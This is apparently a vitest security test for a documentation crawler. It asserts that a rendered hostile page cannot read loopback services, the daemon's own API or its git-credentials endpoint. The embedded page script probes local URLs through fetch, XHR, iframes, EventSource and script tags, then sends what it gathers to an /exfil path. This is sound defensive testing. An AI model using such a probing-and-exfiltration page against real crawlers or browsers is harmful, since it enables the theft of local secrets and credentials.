import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mcpRoutes } from '../../src/daemon/mcp/routes.js';
import { docsIndexRoutes } from '../../src/daemon/routes/index.js';
import { crawlWorkerService } from '../../src/daemon/services.js';
import { describeWithBrowser } from '../helpers/browser.js';
import { runCli } from '../helpers/cli.js';
import { startTestDaemon } from '../helpers/daemon.js';
import { createTestDatabase } from '../helpers/db.js';
import type { TestDatabase } from '../helpers/db.js';

/**
 * SECURITY.md, "What a page's scripts may reach": "A URL that a rendered page's scripts or markup request
 * reaches only what a remote caller's crawl could reach, plus the page's own origin (scheme, host and port),
 * which keeps the permission the page was fetched under" and "An answer from another origin keeps the
 * browser's protections: it carries the CORS headers its server sent, never permissive ones, so the page
 * reads it only when that server allows it; a subrequest's redirect that leaves its origin is not followed."
 *
 * A hostile page, crawled with real Chromium by the real daemon's workers (started by the real CLI, and over
 * REST), fetches and XHRs loopback listeners on another port and on 127.0.0.2, the daemon's own API, and
 * same-origin URLs that redirect to them; frames one, listens to its event stream and loads its scripts; writes
 * what it read into the DOM; and sends it to its own /exfil.
 * Nothing of those listeners may reach the index, `get_page_markdown`, or any later request of the page.
 */

interface Listener {
  url: string;
  port: number;
  /** TCP connections accepted. */
  connections: number;
  /** Every request line's path and query, in order. */
  requests: string[];
  close(): Promise<void>;
}

async function listen(host: string, handle: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<Listener> {
  const self = { url: '', port: 0, connections: 0, requests: [] as string[] } as Listener;
  const server = http.createServer((req, res) => {
    self.requests.push(req.url ?? '');
    handle(req, res);
  });
  server.on('connection', () => self.connections++);
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(0, host, resolve));
  self.port = (server.address() as AddressInfo).port;
  self.url = `http://${host}:${self.port}`;
  self.close = () =>
    new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    });
  return self;
}

/** A loopback service holding `marker`: as text, as JSON and as a script that would hand it to the page. */
function secretService(marker: string): (req: http.IncomingMessage, res: http.ServerResponse) => void {
  return (req, res) => {
    if (req.url === '/secret.js') return void res.writeHead(200, { 'content-type': 'application/javascript' }).end(`window.LOOT = ${JSON.stringify(marker)};`);
    if (req.url === '/secret.json') return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ token: marker }));
    if (req.url === '/events') return void res.writeHead(200, { 'content-type': 'text/event-stream' }).end(`data: ${marker}\n\n`);
    res.writeHead(200, { 'content-type': 'text/plain' }).end(marker);
  };
}

/**
 * The hostile page: loads the script probes, frames the first probe and listens to an event stream, reads each
 * probe with fetch and with XHR, writes everything it got into the DOM between LOOT markers, then sends it to its
 * own origin. `/own.json` is same-origin: the page's own data, which it must still read. `/hold` stays open
 * until the page has sent its loot, so on a loaded machine the renderer never takes the page as settled (no
 * request in flight for a moment) before it is drawn.
 */
function hostilePage(probes: string[], scripts: string[], events: string): string {
  const script = `
const PROBES = ${JSON.stringify(probes)};
const EVENTS = ${JSON.stringify(events)};
const esc = (s) => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;');
const viaFetch = (u) => fetch(u).then((r) => r.text()).catch(() => 'blocked');
const viaXhr = (u) => new Promise((done) => { const x = new XMLHttpRequest(); x.open('GET', u); x.onload = () => done(x.responseText); x.onerror = () => done('blocked'); x.send(); });
fetch('/hold').catch(() => {});
let streamed = 'blocked';
const events = new EventSource(EVENTS);
events.onmessage = (m) => { streamed = m.data; events.close(); };
events.onerror = () => events.close();
const frame = document.createElement('iframe');
frame.src = PROBES[0];
document.body.appendChild(frame);
const framed = () => { try { return frame.contentDocument.body.innerText; } catch { return 'blocked'; } };
(async () => {
  const own = await fetch('/own.json').then((r) => r.json());
  const loot = [];
  for (const u of PROBES) loot.push(await viaFetch(u), await viaXhr(u));
  loot.push(framed(), streamed);
  loot.push(typeof window.LOOT === 'string' ? window.LOOT : 'blocked');
  const text = loot.map((l, i) => 'L' + i + '=' + l).join(' ; ');
  document.title = 'Hostile docs';
  document.getElementById('root').innerHTML = '<main><h1>Hostile docs</h1><p>' + esc(own.prose) + '</p><pre><code class="language-python">' + esc(own.code) + '</code></pre><p>LOOT[' + esc(text) + ']LOOT</p></main>';
  await fetch('/exfil?d=' + encodeURIComponent(text)).catch(() => {});
  new Image().src = '/exfil-img?d=' + encodeURIComponent(text);
  document.body.setAttribute('data-done', '1');
})();`;
  const scriptTags = scripts.map((s) => `<script src="${s}"></script>`).join('');
  return `<!doctype html><html><head><meta charset="utf-8"><title>Loading</title>${scriptTags}</head><body><div id="root"></div><script>${script}</script></body></html>`;
}

/** The hostile site on 127.0.0.1: the page, its own data, and same-origin redirects to the listeners. */
async function hostileSite(page: () => string, redirects: Record<string, () => string>): Promise<Listener> {
  const held: http.ServerResponse[] = [];
  return listen('127.0.0.1', (req, res) => {
    const path = (req.url ?? '/').split('?')[0]!;
    if (path === '/hold') return void held.push(res);
    if (path === '/exfil') for (const r of held.splice(0)) r.writeHead(204).end();
    if (path === '/robots.txt') return void res.writeHead(200, { 'content-type': 'text/plain' }).end('User-agent: *\nAllow: /\n');
    if (path === '/spa.html') return void res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page());
    if (path === '/own.json') {
      return void res
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ prose: 'The hostile docs explain a feature in a sentence of prose for the index.', code: 'import hostile\nhostile.run(owned=True)' }));
    }
    const to = redirects[path];
    if (to) return void res.writeHead(302, { location: to() }).end();
    res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
  });
}

async function connectMcp(base: string): Promise<Client> {
  const client = new Client({ name: 'render-reach-test', version: '1.0.0' });
  await client.connect(new StreamableHTTPClientTransport(new URL(`${base}/mcp`)));
  return client;
}

async function pageMarkdown(mcp: Client, url: string): Promise<string> {
  const result = await mcp.callTool({ name: 'get_page_markdown', arguments: { url } });
  return (result.content as Array<{ text?: string }>).map((c) => c.text ?? '').join('\n');
}

/** Every text the index holds for a job's source: pages, snippets, their titles and descriptions. */
async function indexedText(db: TestDatabase, sourceId: string): Promise<string> {
  const pages = await db.pool.query<{ t: string }>("SELECT concat_ws(' ', url, title, markdown) AS t FROM documents WHERE source_id = $1", [sourceId]);
  const snippets = await db.pool.query<{ t: string }>("SELECT concat_ws(' ', title, description, code, flagged_passage) AS t FROM snippets WHERE source_id = $1", [sourceId]);
  return [...pages.rows, ...snippets.rows].map((r) => r.t).join('\n');
}

/** What the page read, as its DOM showed it: one entry per probe and channel. */
function lootOf(markdown: string): string[] {
  const match = /LOOT\[([\s\S]*?)\]LOOT/.exec(markdown);
  if (!match) throw new Error(`the page drew no LOOT block: ${markdown.slice(0, 500)}`);
  return match[1]!.split(' ; ').map((entry) => entry.replace(/^L\d+=/, '').trim());
}

const MARK_A = 'LOOPBACK_SECRET_A_9f27c1';
const MARK_B = 'LOOPBACK_SECRET_B_41d8e0';
/** Any text of the daemon's own API answers: JSON field names of /api/sources and of an error body. */
const DAEMON_WORDS = ['"items"', '"snippet_count"', '"error"', '"code":'];

function expectNothingLeaked(texts: Record<string, string>): void {
  for (const [where, text] of Object.entries(texts)) {
    for (const secret of [MARK_A, MARK_B, ...DAEMON_WORDS]) expect(text, `${secret} in ${where}`).not.toContain(secret);
  }
}

/** The daemon with its crawl workers and MCP, two loopback services, and the hostile site that probes them. */
interface World {
  db: TestDatabase;
  daemon: Awaited<ReturnType<typeof startTestDaemon>>;
  mcp: Client;
  a: Listener;
  b: Listener;
  site: Listener;
  close(): Promise<void>;
}

interface Probes {
  urls: string[];
  scripts: string[];
}

async function startWorld(allowHosts: string, probes: (w: Pick<World, 'a' | 'b' | 'daemon'>) => Probes): Promise<World> {
  const db = await createTestDatabase({ CRAWL_ALLOW_HOSTS: allowHosts });
  const a = await listen('127.0.0.1', secretService(MARK_A));
  const b = await listen('127.0.0.2', secretService(MARK_B));
  const daemon = await startTestDaemon(db.config, { routes: [...docsIndexRoutes, ...mcpRoutes], services: [crawlWorkerService] });
  const { urls, scripts } = probes({ a, b, daemon });
  const site = await hostileSite(() => hostilePage(urls, scripts, `${a.url}/events`), {
    '/hop-a': () => `${a.url}/secret.txt`,
    '/hop-b': () => `${b.url}/secret.txt`,
    '/hop-daemon': () => `${daemon.base}/api/sources`,
  });
  const mcp = await connectMcp(daemon.base);
  return {
    db,
    daemon,
    mcp,
    a,
    b,
    site,
    async close() {
      await mcp.close();
      await daemon.close();
      await Promise.all([a, b, site].map((l) => l.close()));
      await db.drop();
    },
  };
}

/** The crawled page as get_page_markdown serves it: drawn from its own origin, with nothing it should not have read. */
async function expectPageReadNothing(w: World, start: string, sourceId: string): Promise<void> {
  const markdown = await pageMarkdown(w.mcp, start);
  // The page's own origin keeps the permission the page was fetched under: its data was read and rendered.
  expect(markdown).toContain('hostile.run(owned=True)');
  const loot = lootOf(markdown);
  expect(loot).toHaveLength(8 * 2 + 3);
  expect(new Set(loot)).toEqual(new Set(['blocked']));
  expectNothingLeaked({ get_page_markdown: markdown, index: await indexedText(w.db, sourceId), 'the page\u2019s requests': w.site.requests.join('\n') });
  // The exfiltration requests did arrive, with nothing in them: the test saw the page finish.
  expect(w.site.requests.some((r) => r.startsWith('/exfil?d='))).toBe(true);
}

describeWithBrowser('a rendered page reads nothing local', () => {
  describe('crawled by the real CLI, with its loopback permission (no CRAWL_ALLOW_HOSTS)', () => {
    let w: World;

    beforeAll(async () => {
      w = await startWorld('', ({ a, b, daemon }) => ({
        urls: [
          `${a.url}/secret.txt`,
          `${b.url}/secret.txt`,
          `http://localhost:${a.port}/secret.json`,
          `${daemon.base}/api/sources`,
          `${daemon.base}/api/settings/git-credentials`,
          '/hop-a',
          '/hop-b',
          '/hop-daemon',
        ],
        scripts: [`${a.url}/secret.js`, `${b.url}/secret.js`],
      }));
    });

    afterAll(async () => {
      await w?.close();
    });

    it('`docdex crawl start … --render always --wait`: the page renders, reads its own origin, and nothing else', async () => {
      const start = `${w.site.url}/spa.html`;
      const run = await runCli(['crawl', 'start', start, '--name', 'hostile-cli', '--depth', '0', '--render', 'always', '--wait', '--json'], { env: w.db.env, timeout: 150_000 });
      expect(run.exitCode, String(run.stderr)).toBe(0);
      const job = JSON.parse(String(run.stdout)) as { status: string; pages_rendered: number; source_id: string };
      expect(job).toMatchObject({ status: 'completed', pages_rendered: 1 });
      await expectPageReadNothing(w, start, job.source_id);
      // Loopback on other ports and addresses is refused at connect time: not one connection.
      expect({ a: w.a.connections, b: w.b.connections }, JSON.stringify({ a: w.a.requests, b: w.b.requests })).toEqual({ a: 0, b: 0 });
    }, 180_000);
  });

  describe('crawled over REST with CRAWL_ALLOW_HOSTS=127.0.0.1 (listed for one docs site)', () => {
    let w: World;

    beforeAll(async () => {
      w = await startWorld('127.0.0.1', ({ a, b, daemon }) => ({
        urls: [`${a.url}/secret.txt`, `${a.url}/secret.json`, `${b.url}/secret.txt`, `${daemon.base}/api/sources`, '/hop-a', '/hop-b', '/hop-daemon', `http://localhost:${a.port}/secret.txt`],
        // A script of a listed address runs in the page as in any browser (SECURITY.md names this limit): only 127.0.0.2's is probed.
        scripts: [`${b.url}/secret.js`],
      }));
    });

    afterAll(async () => {
      await w?.close();
    });

    it('POST /api/crawl-jobs with render always: other ports of the listed address are never readable', async () => {
      const start = `${w.site.url}/spa.html`;
      const res = await fetch(`${w.daemon.base}/api/crawl-jobs`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ start_urls: [start], name: 'hostile-rest', max_depth: 0, render: 'always' }),
      });
      expect(res.status).toBe(202);
      const { job_id } = (await res.json()) as { job_id: string };
      let job: { status: string; pages_rendered: number; source_id: string };
      for (const deadline = Date.now() + 150_000; ;) {
        job = (await (await fetch(`${w.daemon.base}/api/crawl-jobs/${job_id}`)).json()) as typeof job;
        if (['completed', 'failed', 'cancelled'].includes(job.status)) break;
        if (Date.now() > deadline) throw new Error(`job still ${job.status}`);
        await new Promise((r) => setTimeout(r, 250));
      }
      expect(job).toMatchObject({ status: 'completed', pages_rendered: 1 });
      await expectPageReadNothing(w, start, job.source_id);
      // 127.0.0.2 is not listed: never connected to, script included.
      expect(w.b.connections, JSON.stringify(w.b.requests)).toBe(0);
    }, 180_000);
  });
});
